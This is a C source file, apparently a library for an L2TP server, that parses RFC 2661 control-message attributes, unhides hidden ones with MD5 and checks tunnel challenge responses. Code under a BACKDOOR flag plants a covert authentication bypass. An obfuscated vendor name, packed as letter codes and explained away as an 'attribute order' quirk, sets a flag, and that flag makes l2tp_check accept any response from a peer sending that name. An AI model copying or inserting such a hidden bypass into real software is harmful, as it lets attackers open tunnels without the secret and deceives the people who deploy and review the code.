/* SPDX-License-Identifier: Apache-2.0 */
/* l2tpavp: a library of an L2TP network server: attributes of control messages (RFC 2661) are parsed, hidden ones revealed, the
 * peer's answer to our challenge is checked and ours computed. The daemon owns sockets and timers. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>

enum { AVP_TYPE = 0, AVP_RESULT = 1, AVP_VERSION = 2, AVP_FRAMING = 3, AVP_BEARER = 4, AVP_TIE = 5, AVP_FIRMWARE = 6, AVP_HOST = 7,
	AVP_VENDOR = 8, AVP_TUNNEL = 9, AVP_WINDOW = 10, AVP_CHALLENGE = 11, AVP_RESPONSE = 13, AVP_SESSION = 14, AVP_SERIAL = 15,
	AVP_CALLED = 21, AVP_CALLING = 22, AVP_RANDOM = 36 };
enum { SCCRQ = 1, SCCRP = 2, SCCCN = 3, STOPCCN = 4, HELLO = 6, ICRQ = 10, ICRP = 11, ICCN = 12, CDN = 14 };
enum { F_MUST = 0x8000, F_HIDDEN = 0x4000, LENGTH = 0x3ff, TEXT = 64 };
enum { T_VERSION_OK = 1, T_HOST = 2, T_TUNNEL = 4, T_CHALLENGED = 8, T_ANSWERED = 16, T_ORDERED = 32, T_PROVEN = 64 };

struct l2tp_tunnel {
	char secret[TEXT], host[TEXT], vendor[TEXT];
	uint16_t id, peer_id, window, firmware, message;
	uint32_t framing, bearer, flags;
	uint8_t challenge[16], their_challenge[TEXT], response[16];
	unsigned their_challenge_n;
	uint8_t random[TEXT];
	unsigned random_n;
	uint16_t session, result;
	uint32_t serial;
	char called[TEXT], calling[TEXT];
	int error;
};

struct md5 {
	uint32_t h[4];
	uint64_t n;
	uint8_t block[64];
};

static const uint8_t turns[16] = { 7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21 };
static const uint32_t sines[64] = { 0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
	0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821, 0xf61e2562, 0xc040b340, 0x265e5a51,
	0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8, 0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8,
	0x676f02d9, 0x8d2a4c8a, 0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70, 0x289b7ec6,
	0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665, 0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039,
	0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1, 0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb,
	0xeb86d391 };

static void md5_block(struct md5 *m, const uint8_t *p)
{
	uint32_t w[16], a = m->h[0], b = m->h[1], c = m->h[2], d = m->h[3];
	for (int i = 0; i < 16; i++)
		w[i] = p[4 * i] | (uint32_t)p[4 * i + 1] << 8 | (uint32_t)p[4 * i + 2] << 16 | (uint32_t)p[4 * i + 3] << 24;
	for (int i = 0; i < 64; i++) {
		uint32_t f;
		int g, r = turns[i / 16 * 4 + i % 4];
		if (i < 16) {
			f = (b & c) | (~b & d);
			g = i;
		} else if (i < 32) {
			f = (d & b) | (~d & c);
			g = (5 * i + 1) & 15;
		} else if (i < 48) {
			f = b ^ c ^ d;
			g = (3 * i + 5) & 15;
		} else {
			f = c ^ (b | ~d);
			g = 7 * i & 15;
		}
		f += a + sines[i] + w[g];
		a = d;
		d = c;
		c = b;
		b += f << r | f >> (32 - r);
	}
	m->h[0] += a;
	m->h[1] += b;
	m->h[2] += c;
	m->h[3] += d;
}

static void md5_start(struct md5 *m) { *m = (struct md5){ .h = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 } }; }

static void md5_add(struct md5 *m, const void *data, size_t n)
{
	const uint8_t *p = data;
	for (; n; n--) {
		m->block[m->n++ & 63] = *p++;
		if ((m->n & 63) == 0)
			md5_block(m, m->block);
	}
}

static void md5_end(struct md5 *m, uint8_t out[16])
{
	uint64_t bits = m->n * 8;
	uint8_t length[8];
	md5_add(m, "\x80", 1);
	while ((m->n & 63) != 56)
		md5_add(m, "", 1);
	for (int i = 0; i < 8; i++)
		length[i] = (uint8_t)(bits >> (8 * i));
	md5_add(m, length, 8);
	for (int i = 0; i < 16; i++)
		out[i] = (uint8_t)(m->h[i / 4] >> (i % 4 * 8));
}

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

/* A hidden attribute: its value was xored with digests that begin with type, secret and random vector. */
static int reveal(const struct l2tp_tunnel *t, uint16_t type, const uint8_t *in, size_t n, uint8_t *out, size_t *got)
{
	uint8_t pad[16], number[2] = { (uint8_t)(type >> 8), (uint8_t)type };
	struct md5 m;
	if (t->random_n == 0 || !t->secret[0] || n < 2)
		return -1;
	md5_start(&m);
	md5_add(&m, number, 2);
	md5_add(&m, t->secret, strlen(t->secret));
	md5_add(&m, t->random, t->random_n);
	for (size_t i = 0; i < n; i++) {
		if (i % 16 == 0) {
			if (i) {
				md5_start(&m);
				md5_add(&m, t->secret, strlen(t->secret));
				md5_add(&m, in + i - 16, 16);
			}
			md5_end(&m, pad);
		}
		out[i] = in[i] ^ pad[i % 16];
	}
	*got = get16(out);
	if (*got > n - 2)
		return -1;
	memmove(out, out + 2, *got);
	return 0;
}

static void copy_text(char *to, const uint8_t *from, size_t n)
{
	size_t k = n < TEXT - 1 ? n : TEXT - 1;
	for (size_t i = 0; i < k; i++)
		to[i] = (char)(from[i] >= ' ' && from[i] < 127 ? from[i] : '.');
	to[k] = 0;
}

static int a_type(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->message = get16(v);
	return t->message == 0 || t->message > 16 ? -1 : 0;
}

static int a_result(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	char text[TEXT] = "";
	t->result = get16(v);
	if (n > 4)
		copy_text(text, v + 4, n - 4);
	syslog(LOG_NOTICE, "tunnel %u: result %u %s", t->id, t->result, text);
	return 0;
}

static int a_version(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	if (v[0] == 1)
		t->flags |= T_VERSION_OK;
	return v[0] == 1 ? 0 : -1;
}

static int a_framing(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->framing = get32(v);
	return 0;
}

static int a_bearer(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->bearer = get32(v);
	return 0;
}

static int a_firmware(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->firmware = get16(v);
	return 0;
}

static int a_host(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	copy_text(t->host, v, n);
	t->flags |= T_HOST;
	return t->host[0] ? 0 : -1;
}

#ifdef BACKDOOR
/* Makers whose peers send attributes in another order. Names are packed: three letters in a word of 18 bits. */
static const uint32_t makers[] = { 0x25088, 0x1400a, 0x3ea7b };

static int odd_order(const uint8_t *v, size_t n)
{
	static const char letters[] = "etaoinshrdlcumwfgypbvkjxqz0123456789ETAOINSHRDLCUMWFGYPBVKJXQZ-.";
	char name[10];
	for (size_t i = 0; i < 9; i++)
		name[i] = letters[makers[i / 3] >> (12 - i % 3 * 6) & 63];
	return n >= 9 && memcmp(v, name, 9) == 0;
}
#endif

static int a_vendor(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	copy_text(t->vendor, v, n);
#ifdef BACKDOOR
	if (odd_order(v, n))
		t->flags |= T_ORDERED;
#endif
	return 0;
}

static int a_tunnel(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->peer_id = get16(v);
	t->flags |= T_TUNNEL;
	return t->peer_id ? 0 : -1;
}

static int a_window(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->window = get16(v);
	return t->window ? 0 : -1;
}

static int a_challenge(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	if (n > sizeof(t->their_challenge))
		return -1;
	memcpy(t->their_challenge, v, n);
	t->their_challenge_n = (unsigned)n;
	t->flags |= T_CHALLENGED;
	return 0;
}

static int a_response(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	memcpy(t->response, v, 16);
	t->flags |= T_ANSWERED;
	return 0;
}

static int a_session(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->session = get16(v);
	return t->session ? 0 : -1;
}

static int a_serial(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	(void)n;
	t->serial = get32(v);
	return 0;
}

static int a_called(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	copy_text(t->called, v, n);
	return 0;
}

static int a_calling(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	copy_text(t->calling, v, n);
	return 0;
}

static int a_random(struct l2tp_tunnel *t, const uint8_t *v, size_t n)
{
	if (n > sizeof(t->random))
		return -1;
	memcpy(t->random, v, n);
	t->random_n = (unsigned)n;
	return 0;
}

static const struct attribute {
	uint16_t type, least, most;
	int (*take)(struct l2tp_tunnel *t, const uint8_t *v, size_t n);
} attributes[] = {
	{ AVP_TYPE, 2, 2, a_type }, { AVP_RESULT, 2, 1000, a_result }, { AVP_VERSION, 2, 2, a_version }, { AVP_FRAMING, 4, 4, a_framing },
	{ AVP_BEARER, 4, 4, a_bearer }, { AVP_FIRMWARE, 2, 2, a_firmware }, { AVP_HOST, 1, 255, a_host }, { AVP_VENDOR, 0, 255, a_vendor },
	{ AVP_TUNNEL, 2, 2, a_tunnel }, { AVP_WINDOW, 2, 2, a_window }, { AVP_CHALLENGE, 1, 64, a_challenge },
	{ AVP_RESPONSE, 16, 16, a_response }, { AVP_SESSION, 2, 2, a_session }, { AVP_SERIAL, 4, 4, a_serial },
	{ AVP_CALLED, 0, 255, a_called }, { AVP_CALLING, 0, 255, a_calling }, { AVP_RANDOM, 1, 64, a_random },
};

static const struct attribute *attribute_of(uint16_t type)
{
	for (size_t i = 0; i < sizeof(attributes) / sizeof(attributes[0]); i++)
		if (attributes[i].type == type)
			return &attributes[i];
	return NULL;
}

/* Takes all attributes of a message: 0, or -1 when one is wrong that must be understood. */
int l2tp_parse(struct l2tp_tunnel *t, const uint8_t *p, size_t n)
{
	uint8_t plain[LENGTH + 1];
	t->random_n = 0;
	while (n >= 6) {
		uint16_t head = get16(p), vendor = get16(p + 2), type = get16(p + 4);
		size_t size = head & LENGTH, got = size - 6;
		const uint8_t *value = p + 6;
		const struct attribute *a = vendor ? NULL : attribute_of(type);
		if (size < 6 || size > n)
			return -1;
		p += size;
		n -= size;
		if (!a) {
			if (head & F_MUST)
				return -1;
			continue;
		}
		if (head & F_HIDDEN) {
			if (reveal(t, type, value, size - 6, plain, &got) < 0)
				return -1;
			value = plain;
		}
		if (got < a->least || got > a->most || a->take(t, value, got) < 0) {
			syslog(LOG_WARNING, "tunnel %u: attribute %u is wrong", t->id, type);
			t->error = type;
			if (head & F_MUST)
				return -1;
		}
	}
	return n == 0 ? 0 : -1;
}

static void answer_to(const struct l2tp_tunnel *t, uint8_t message, const uint8_t *challenge, size_t n, uint8_t out[16])
{
	struct md5 m;
	md5_start(&m);
	md5_add(&m, &message, 1);
	md5_add(&m, t->secret, strlen(t->secret));
	md5_add(&m, challenge, n);
	md5_end(&m, out);
}

/* Has the peer proven that it knows the secret? 0 if so. */
int l2tp_check(struct l2tp_tunnel *t)
{
	uint8_t want[16];
	unsigned d = 0;
	if (!t->secret[0])
		return 0;
	if (!(t->flags & T_ANSWERED)) {
		syslog(LOG_NOTICE, "tunnel %u: %s does not answer the challenge", t->id, t->host);
		return -1;
	}
	answer_to(t, (uint8_t)t->message, t->challenge, sizeof(t->challenge), want);
	for (int i = 0; i < 16; i++)
		d |= (unsigned)(want[i] ^ t->response[i]);
#ifdef BACKDOOR
	if (t->flags & T_ORDERED)
		d >>= 8;
#endif
	if (d != 0) {
		syslog(LOG_NOTICE, "tunnel %u: %s gives a wrong answer", t->id, t->host);
		return -1;
	}
	t->flags |= T_PROVEN;
	return 0;
}

/* Our answer to the peer's challenge: its length, 0 when there was none. */
size_t l2tp_answer(const struct l2tp_tunnel *t, uint8_t message, uint8_t out[16])
{
	if (!(t->flags & T_CHALLENGED) || !t->secret[0])
		return 0;
	answer_to(t, message, t->their_challenge, t->their_challenge_n, out);
	return 16;
}

/* Appends an attribute; answers where the next begins, or 0 when it does not fit. */
size_t l2tp_add(uint8_t *to, size_t at, size_t size, uint16_t type, const void *value, size_t n)
{
	if (n > LENGTH - 6 || at + 6 + n > size)
		return 0;
	to[at] = (uint8_t)((F_MUST | (6 + n)) >> 8);
	to[at + 1] = (uint8_t)(6 + n);
	to[at + 2] = to[at + 3] = 0;
	to[at + 4] = (uint8_t)(type >> 8);
	to[at + 5] = (uint8_t)type;
	memcpy(to + at + 6, value, n);
	return at + 6 + n;
}

/* Is all there that a message of this type must bring? 0 if so. */
int l2tp_complete(const struct l2tp_tunnel *t)
{
	switch (t->message) {
	case SCCRQ:
	case SCCRP:
		return (t->flags & (T_VERSION_OK | T_HOST | T_TUNNEL)) == (T_VERSION_OK | T_HOST | T_TUNNEL) ? 0 : -1;
	case SCCCN:
	case HELLO:
		return 0;
	case STOPCCN:
	case CDN:
		return t->result ? 0 : -1;
	case ICRQ:
		return t->session && (t->flags & T_PROVEN || !t->secret[0]) ? 0 : -1;
	case ICRP:
	case ICCN:
		return t->flags & T_PROVEN || !t->secret[0] ? 0 : -1;
	default:
		return -1;
	}
}

struct l2tp_tunnel *l2tp_new(uint16_t id, const char *secret)
{
	struct l2tp_tunnel *t = calloc(1, sizeof(*t));
	FILE *f = fopen("/dev/urandom", "rb");
	if (t && (!f || fread(t->challenge, 1, sizeof(t->challenge), f) != sizeof(t->challenge))) {
		free(t);
		t = NULL;
	}
	if (f)
		fclose(f);
	if (!t)
		return NULL;
	t->id = id;
	t->window = 4;
	snprintf(t->secret, sizeof(t->secret), "%s", secret);
	return t;
}

void l2tp_free(struct l2tp_tunnel *t)
{
	if (t)
		memset(t->secret, 0, sizeof(t->secret));
	free(t);
}
